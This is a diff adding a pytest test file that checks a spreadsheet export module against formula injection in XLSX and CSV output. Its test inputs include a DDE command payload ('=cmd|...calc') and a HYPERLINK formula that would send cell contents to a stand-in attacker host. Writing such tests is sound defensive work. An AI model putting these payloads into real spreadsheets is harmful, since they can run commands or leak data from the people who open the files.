@@ -1,0 +1,111 @@
+"""Exported lists: real numbers and dates, and not one formula, whatever an external system said."""
+
+from __future__ import annotations
+
+import csv
+import re
+from datetime import UTC, datetime
+from decimal import Decimal
+from io import BytesIO, StringIO
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+
+from core.sheets import Cell, Sheet, csv_of, harmless, xlsx_of
+
+OSLO = ZoneInfo("Europe/Oslo")
+MOMENT = datetime(2026, 11, 23, 9, 5, tzinfo=UTC)
+SPACES = ("", " ", "\u00a0", "\u3000", "\u202f", "\t", "\r", "\n", "\r\n", '"', "'", "\u200b", "\ufeff")
+BODIES = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "=cmd|' /C calc'!A0")
+LINKS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "{=1+1}", "https://evil.example", "mailto:x@evil.example", "-"]
+EVIL = [f"{lead}{body}" for lead in (*SPACES, "x\n", "x\r\n ") for body in BODIES] + LINKS
+FORMULA = re.compile('[ \u00a0\u3000\u202f\t"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]')
+
+
+def sheet(*rows: tuple[Cell, ...], language: str = "en") -> Sheet:
+    return Sheet("Not booked", tuple(f"title {n}" for n in range(len(rows[0]))), rows, language, OSLO)
+
+
+def book(made: Sheet) -> openpyxl.worksheet.worksheet.Worksheet:
+    page = openpyxl.load_workbook(BytesIO(xlsx_of(made))).active
+    assert page is not None
+    return page
+
+
+def read_csv(content: bytes, separator: str) -> list[list[str]]:
+    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))
+
+
+@pytest.mark.parametrize("language", ["en", "nb"])
+def test_no_text_of_an_xlsx_is_a_formula_or_a_link(language: str) -> None:
+    page = book(sheet(*((text,) for text in EVIL), language=language))
+
+    cells = [cell for row in page.iter_rows(min_row=2) for cell in row if cell.value is not None]
+    assert len(cells) >= len(EVIL) - 1
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(cell.hyperlink is None for cell in cells)
+    assert all(cell.quotePrefix for cell in cells)
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@pytest.mark.parametrize("text", EVIL)
+def test_no_line_of_a_csv_cell_begins_a_formula_whatever_separator_is_guessed(text: str, separator: str) -> None:
+    language = "nb" if separator == ";" else "en"
+    rows = read_csv(csv_of(sheet(("a", text, "b"), language=language)), separator)
+
+    lines = [line for row in rows for cell in row for line in cell.splitlines()]
+    assert lines
+    assert not [line for line in lines if FORMULA.match(line)]
+
+
+@pytest.mark.parametrize("text", ["=1", " =1", "\u00a0+1", "\t1", "x\n=1", "x\r@1", "\uff1d1", "-5 stk"])
+def test_a_dangerous_text_gets_an_apostrophe(text: str) -> None:
+    assert "'" in harmless(text)
+
+
+@pytest.mark.parametrize("text", ["UT-004711", "Kostnadssted 9999", "a=b", "5 - 3", "kari@acme.example", "", "x\ny"])
+def test_an_ordinary_text_is_left_as_it_is(text: str) -> None:
+    assert harmless(text) == text
+
+
+def test_amounts_counts_and_moments_are_real_ones() -> None:
+    page = book(sheet((Decimal("-1234.50"), 3, MOMENT, None, "UT-1")))
+    amount, count, moment, nothing, key = (page.cell(2, column) for column in range(1, 6))
+
+    assert (amount.value, amount.data_type, amount.number_format) == (-1234.5, "n", "#,##0.00")
+    assert (count.value, count.data_type) == (3, "n")
+    assert (str(moment.value), moment.is_date) == ("2026-11-23 10:05:00", True)
+    assert nothing.value is None
+    assert (key.value, key.data_type) == ("UT-1", "s")
+
+
+def test_a_negative_number_stays_a_number_in_a_csv() -> None:
+    row: tuple[Cell, ...] = (Decimal("-1234.50"), -3, MOMENT, None)
+
+    assert csv_of(sheet(row)).decode("utf-8-sig").splitlines()[1] == "-1234.50,-3,2026-11-23 10:05,"
+    assert csv_of(sheet(row, language="nb")).decode("utf-8-sig").splitlines()[1] == "-1234,50;-3;2026-11-23 10:05;"
+
+
+@pytest.mark.parametrize("amount", ["12345678901234567.89", "NaN", "0.1"])
+def test_an_amount_a_spreadsheet_would_change_is_text(amount: str) -> None:
+    cell = book(sheet((Decimal(amount),))).cell(2, 1)
+
+    assert Decimal(str(cell.value)).compare_total(Decimal(amount)) == 0
+    assert cell.data_type == ("n" if amount == "0.1" else "s")
+
+
+def test_norwegian_letters_and_a_long_text_arrive() -> None:
+    content = csv_of(sheet(('Blåbærsyltetøy «x»; "sitat"', "x" * 200_000), language="nb"))
+
+    assert content.startswith(b"\xef\xbb\xbf")
+    (first, long) = read_csv(content, ";")[1]
+    assert first == 'Blåbærsyltetøy «x»; "sitat"'
+    assert len(long) == 32_000
+
+
+def test_an_evil_name_of_a_sheet_and_a_title_do_no_harm() -> None:
+    made = Sheet("a[b]:*?/\\'" * 9, ("=1",), [("x",)], "en", OSLO)
+
+    assert book(made).cell(1, 1).data_type == "s"
+    assert read_csv(csv_of(made), ",")[0] == ["'=1"]
